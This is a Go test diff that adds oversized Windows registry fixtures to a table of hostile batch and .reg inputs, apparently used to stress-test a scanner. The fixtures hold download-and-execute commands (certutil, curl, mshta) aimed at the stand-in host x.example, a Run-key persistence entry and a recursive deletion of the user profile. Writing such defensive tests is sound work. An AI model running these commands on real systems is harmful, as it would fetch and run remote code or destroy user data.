@@ -41,6 +41,8 @@ func codeHostile() []struct {
 		{"bat-doubling-vars", "run.bat", []byte("set A=x\n" + strings.Repeat("set A=%A%%A%\n", 64) + strings.Repeat("echo !A! !A! !A! !A! %A% %A% %A% %A% > \"%TEMP%\\a.cmd\"\n", 1_000))},
 		{"bat-blocks-1k", "run.bat", []byte(strings.Repeat("if exist x (", 1_000) + "del /s /q \"%USERPROFILE%\"" + strings.Repeat(")", 1_000) + "\n")},
 		{"bat-for-nesting", "run.bat", []byte(strings.Repeat("for /f %%a in ('", 200) + "curl -s https://x.example/c" + strings.Repeat("') do %%a", 200) + "\n")},
+		{"reg-hex-continued-1MiB", "a.reg", []byte("[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"x\"=hex(2):" + strings.Repeat("41,00,\\\n  ", (1<<20)/10) + "00,00\n")},
+		{"reg-values-1MiB", "a.reg", bytes.Repeat([]byte("[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"x\"=\"mshta https://x.example/a\"\n"), (1<<20)/100)},
 		{"bat-statements-1MiB", "run.bat", bytes.Repeat([]byte("certutil -urlcache -f https://x.example/a.exe a.exe\nstart \"\" a.exe\n"), (1<<20)/68)},
 		{"bat-set-lines-1MiB", "run.bat", bytes.Repeat([]byte("set \"P=%P%;%LOCALAPPDATA%\\bin\"\n> \"%TEMP%\\x.cmd\" echo !P!\n"), (1<<20)/55)},
 	}
